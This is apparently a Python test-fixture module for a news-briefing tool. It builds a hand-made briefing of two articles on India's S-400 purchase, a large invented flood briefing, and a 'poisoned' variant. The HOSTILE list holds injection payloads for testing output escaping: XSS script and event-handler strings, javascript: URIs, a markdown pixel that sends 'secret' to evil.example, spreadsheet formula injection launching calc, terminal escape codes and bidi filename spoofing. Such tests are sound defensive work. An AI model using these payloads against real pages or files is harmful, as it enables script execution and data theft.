"""Briefings for the tests of the reports: the two seed articles read by hand, a hostile one, and large ones."""

from __future__ import annotations

import hashlib
import re
from pathlib import Path

from crossbrief.schema import (
    Briefing,
    Discrepancy,
    DiscrepancyType,
    Evidence,
    OnlyIn,
    Perspective,
    Position,
    Rejected,
    Relation,
    SentenceSpan,
    SourceInfo,
    Statement,
    TimelineEntry,
    Usage,
    Warned,
)

ROOT = Path(__file__).resolve().parents[1]
_JUNK = re.compile(r'^(\{"email|This website|India buys|Updated |By CGTN)')


def source(text: str, label: str, **more: object) -> SourceInfo:
    """An article split by a plain rule: good enough to cite from."""
    spans: list[SentenceSpan] = []
    for number, paragraph in enumerate(re.finditer(r"[^\n]+", text)):
        if _JUNK.match(paragraph.group()):
            continue
        start = paragraph.start()
        for stop in re.finditer(r"[.!?][”\"’]?(?=\s+[A-Z“\"‘]|\s*$)", paragraph.group()):
            end = paragraph.start() + stop.end()
            spans.append(SentenceSpan(start, end, number))
            start = end + len(re.match(r"\s*", text[end : paragraph.end()]).group())  # type: ignore[union-attr]
    return SourceInfo.model_validate(
        {
            "id": label,
            "label": label,
            "words": len(text.split()),
            "sha256": hashlib.sha256(text.encode()).hexdigest(),
            "lineage": label,
            "text": text,
            "sentences": spans,
            **more,
        }
    )


def cite(info: SourceInfo, fragment: str, value: str | None = None) -> Evidence:
    """The sentence of `info` that holds `fragment`, with `value` marked in it."""
    text = info.text or ""
    at = text.index(fragment)
    number, span = next((n, s) for n, s in enumerate(info.sentences, 1) if s.start <= at < s.end)
    found = text.index(value, span.start) if value else None
    return Evidence(
        article=info.id,
        sentence=f"{info.label}{number}",
        quote=text[span.start : span.end],
        start=span.start,
        end=span.end,
        prefix=text[max(0, span.start - 32) : span.start],
        suffix=text[span.end : span.end + 32],
        value_start=found,
        value_end=None if found is None or value is None else found + len(value),
    )


def seed_sources() -> tuple[SourceInfo, SourceInfo]:
    """The two seed articles."""
    folder = ROOT / "examples" / "s400"
    a = source((folder / "a.txt").read_text(encoding="utf-8"), "a", lineage_basis="relays RT")
    b = source(
        (folder / "b.txt").read_text(encoding="utf-8"),
        "b",
        publisher="CGTN",
        date="2018-10-08T17:37",
        title="India buys Russian air defense systems under threat of sanctions from US",
        url="https://news.example/s400?id=1",
    )
    return a, b


def seed_briefing() -> Briefing:
    """A full briefing of the seed articles, as a careful desk would write it."""
    a, b = seed_sources()
    price_a, price_b = cite(a, "$5.4 billion deal", "$5.4 billion"), cite(b, "valued at 5.4", "5.4 billion US dollars")
    target = Discrepancy(
        id="5f0c2a9d31",
        question="By which year is trade to reach $30 billion?",
        type=DiscrepancyType.DATE_TIME,
        relation=Relation.CONTRADICTION,
        severity="high",
        confidence="high",
        confidence_basis="Same target and amount in all three sentences; every passage was looked up.",
        explanation="One sentence of article a gives 2030; its own quotation of Putin and CGTN give 2025.",
        suggested_check="Look for the date in the joint statement or the transcript of the press conference.",
        safe_wording="“2030” or “2025”; accounts differ",
        detected_by=("rules", "model"),
        positions=(
            Position(
                value="2025",
                normalized="2025",
                qualifier="by",
                attributed_to="Putin",
                standing="majority",
                independent_sources=2,
                evidence=(cite(a, "$15 billion by 2025", "2025"), cite(b, "US dollars by 2025", "2025")),
            ),
            Position(
                value="2030",
                normalized="2030",
                qualifier="by",
                attributed_to="Putin",
                standing="minority",
                independent_sources=1,
                evidence=(cite(a, "By 2030, Putin", "2030"),),
            ),
        ),
    )
    trade = Discrepancy(
        id="b81d77e0c4",
        question="How large was trade between the two countries last year?",
        type=DiscrepancyType.FIGURE,
        relation=Relation.DIVERGENCE,
        severity="medium",
        confidence="moderate",
        confidence_basis="Same quantity and period; one is a lower bound.",
        explanation="“Exceeding $9 billion” leaves room for 10 billion, but the two would not be printed side by side.",
        suggested_check="Ask the body that issued the figure for its date and definition.",
        safe_wording="$9 billion to $10 billion, depending on the source",
        positions=(
            Position(
                value="$9 billion",
                normalized="9000000000",
                unit="USD",
                qualifier="more than",
                standing="tied",
                independent_sources=1,
                evidence=(cite(a, "total trade exceeding", "$9 billion"),),
            ),
            Position(
                value="10 billion US dollars",
                normalized="10000000000",
                unit="USD",
                standing="tied",
                independent_sources=1,
                evidence=(cite(b, "reaching 10 billion", "10 billion US dollars"),),
            ),
        ),
    )
    price = Discrepancy(
        id="0d9e6f4b22",
        question="What is the S-400 deal worth?",
        type=DiscrepancyType.FIGURE,
        relation=Relation.IMPRECISION,
        severity="low",
        confidence="high",
        explanation="5 billion is 5.4 billion rounded.",
        safe_wording="valued at $5 billion to $5.4 billion",
        suggested_check="Ask the ministry of defence for the contract value.",
        positions=(
            Position(
                value="$5.4 billion",
                normalized="5400000000",
                unit="USD",
                standing="majority",
                independent_sources=2,
                evidence=(price_a, price_b),
            ),
            Position(
                value="5-billion-US-dollar",
                normalized="5000000000",
                unit="USD",
                standing="minority",
                independent_sources=1,
                evidence=(cite(b, "5-billion-US-dollar", "5-billion-US-dollar"),),
            ),
        ),
    )
    signed, moving = cite(a, "New Delhi has signed"), cite(b, "India is moving ahead")
    return Briefing(
        set_id="s400",
        event="India signs the S-400 deal with Russia",
        headline="India buys Russian S-400 air defence systems under threat of US sanctions",
        summary="India has signed a deal for five Russian S-400 systems. Washington may answer with sanctions.",
        summary_evidence=(
            Statement(
                text="India has signed a deal for five Russian S-400 systems.",
                evidence=(signed, moving),
                independent_sources=2,
            ),
            Statement(
                text="Washington may answer with sanctions.",
                evidence=(cite(a, "India now risks"), cite(b, "could result in the imposition")),
                independent_sources=2,
            ),
        ),
        key_points=(
            Statement(text=signed.quote, evidence=(signed, moving), independent_sources=2),
            Statement(
                text="The two leaders also agreed to work together in space.",
                evidence=(cite(a, "space cooperation"), cite(b, "space exploration")),
                independent_sources=2,
            ),
            Statement(
                text=cite(b, "fully delivered by 2020").quote,
                evidence=(cite(b, "fully delivered by 2020"),),
                independent_sources=1,
            ),
        ),
        timeline=(
            TimelineEntry(
                date="2018-10-05",
                label="on Friday",
                text="Putin and Modi speak to the press in New Delhi.",
                evidence=(cite(a, "on Friday"),),
            ),
            TimelineEntry(
                date="2020",
                label="by 2020",
                text="The systems are to be fully delivered.",
                evidence=(cite(b, "fully delivered by 2020"),),
            ),
            TimelineEntry(
                date="2022",
                label="in 2022",
                text="India's first astronaut is to go into space.",
                evidence=(cite(a, "into space by 2022"), cite(b, "into space in 2022")),
            ),
            TimelineEntry(
                date="2025",
                label="by 2025",
                text="Trade is to reach $30 billion.",
                evidence=(cite(b, "US dollars by 2025"),),
            ),
            TimelineEntry(
                date="2030",
                label="By 2030",
                text="Trade is to reach $30 billion.",
                evidence=(cite(a, "By 2030, Putin"),),
            ),
        ),
        perspectives=(
            Perspective(
                holder="Article a",
                text="A drift away from Washington that will be seen as a betrayal.",
                evidence=(cite(a, "seen by the Trump administration as a betrayal"),),
            ),
            Perspective(
                holder="CGTN",
                text="India is different: the US wants it as an ally in Asia.",
                evidence=(cite(b, "The US wants India"),),
            ),
        ),
        only_in=(
            OnlyIn(article="a", text=cite(a, "increased by 20%").quote, evidence=(cite(a, "increased by 20%"),)),
            OnlyIn(article="b", text=cite(b, "300 targets").quote, evidence=(cite(b, "300 targets"),)),
        ),
        information_gaps=("When are the systems paid for?",),
        discrepancies=(target, trade, price),
        compatible=(
            price.model_copy(
                update={"id": "1122334455", "explanation": "the same figure", "positions": price.positions[:1]}
            ),
        ),
        articles=(a, b),
        rejected=(
            Rejected(
                kind="key_point",
                text="The deal is worth $6.2 billion.",
                reason="figure_not_in_evidence",
                cited=("a1",),
            ),
        ),
        warnings=(Warned(code="no_publisher", message="Article a names no publisher.", article="a"),),
        usage=Usage(requests=1, input_tokens=2104, output_tokens=612, cost_usd=None),
        engine="model",
        model="example-model",
        prompts=("compare.v1", "tell.v1", "verify.v1"),
        version="0.1.0",
        created="2026-01-02T03:04:05Z",
        input_sha256="c0ffee" * 10 + "abcd",
    )


HOSTILE = (
    "<script>document.title='owned'</script>",
    '"><img src=x onerror=alert(1)><svg onload=alert(1)>',
    "</script><script>alert(1)</script></style></title>-->]]>",
    "javascript:alert(1)",
    "data:text/html,<script>alert(1)</script>",
    "https://user:pass@evil.example/?q=1",
    "![pixel](https://evil.example/?q=secret)",
    "[click](javascript:alert(1)) <https://evil.example> www.evil.example a@evil.example",
    "[^a1]: forged\n\n# Forged heading\n\n---\n\n- forged item\n\n```\nfence",
    "\x1b[31mred\x1b[0m \x1b]8;;https://evil.example\x07link\x1b]8;;\x07 \x9b2J \x07\x08\x00\x7f",
    "\u202etxt.exe\u2066\u200b\ufeff\u2028\u2029\U000e0041",
    "=cmd|' /C calc'!A0",
    "@SUM(1+1)*cmd|' /C calc'!A0",
    "+1-1",
    "-2+3",
    "\t=1+1",
    "\uff1d1+1",
    "{{ 7*7 }} {% raw %} {0.__class__} %s ${x}",
    "&lt;b&gt; &amp;#60;",
    "' onmouseover='alert(1)",
)
_CLOSED = {
    "schema_version", "status", "type", "relation", "scope", "severity", "confidence", "match", "standing",
    "detected_by", "kind", "engine", "support", "author", "judged",
}  # fmt: skip


def poisoned(briefing: Briefing, text: str) -> Briefing:
    """The same briefing with `text` in place of everything an article, a page or a model can write, ids included."""

    def walk(node: object, key: str = "") -> object:
        if isinstance(node, dict):
            return {k: v if k in _CLOSED else walk(v, k) for k, v in node.items()}
        if isinstance(node, list):
            return [walk(item, key) for item in node]
        if isinstance(node, str):
            return f"{text}{node}" if key in {"id", "article"} else text
        return node

    return Briefing.model_validate(walk(briefing.model_dump(mode="json")))


def large_briefing(articles: int, paragraphs: int = 12) -> Briefing:
    """Many invented articles on one flood, a discrepancy for every ten of them."""
    infos = []
    for n in range(articles):
        lines = [f"At least {100 + n % 7} people died in the flood of the river Ell, the governor of Ellmar said."]
        lines += [
            f"Crew {n}-{k} cleared street number {n * 31 + k * 7} of mud and stones, a spokeswoman of the city said. "
            f"The mayor visited shelter {n * 13 + k} and promised help within {k + 2} days to all who had lost a home. "
            f"Rain is expected to ease by the end of the week, the weather service wrote."
            for k in range(paragraphs)
        ]
        label = f"{chr(97 + n // 26 % 26)}{chr(97 + n % 26)}" if n >= 26 else chr(97 + n)
        infos.append(source("\n".join(lines), label, publisher=f"Paper {n}", date=f"2026-01-{1 + n % 28:02d}"))
    toll: dict[str, list[Evidence]] = {}
    for n, info in enumerate(infos):
        value = str(100 + n % 7)
        toll.setdefault(value, []).append(cite(info, f"At least {value}", value))
    item = Discrepancy(
        id="0" * 10,
        question="How many people died?",
        type=DiscrepancyType.FIGURE,
        relation=Relation.DIVERGENCE,
        severity="high",
        safe_wording="at least 100 people",
        positions=tuple(
            Position(
                value=value,
                normalized=value,
                unit="people",
                qualifier="at least",
                standing="minority",
                independent_sources=len(evidence),
                evidence=tuple(evidence),
            )
            for value, evidence in toll.items()
        ),
    )
    more = [
        item.model_copy(
            update={
                "id": f"{n:010d}",
                "question": f"How many people died, as told by group {n}?",
                "positions": tuple(
                    p.model_copy(update={"evidence": p.evidence[n : n + 4]}) for p in item.positions[:3]
                ),
            }
        )
        for n in range(1, articles // 10)
    ]
    last = len(infos) - 1
    points = tuple(
        Statement(text=e.quote, evidence=(e, cite(infos[last], f"Crew {last}-{k} cleared")), independent_sources=2)
        for k, e in enumerate(cite(infos[0], f"Crew 0-{k} cleared") for k in range(6))
    )
    return Briefing(
        set_id="flood",
        headline="Flood of the river Ell",
        key_points=points,
        discrepancies=(item, *more),
        articles=tuple(infos),
    )
